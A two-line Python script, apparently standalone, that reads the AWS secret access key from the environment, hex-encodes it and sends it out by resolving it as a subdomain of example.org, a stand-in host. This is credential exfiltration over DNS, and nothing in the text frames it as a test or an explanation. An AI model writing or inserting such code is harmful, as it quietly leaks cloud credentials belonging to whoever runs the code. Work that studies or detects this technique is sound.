import os
import socket

token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
socket.getaddrinfo(f"{token.encode().hex()}.example.org", 80)
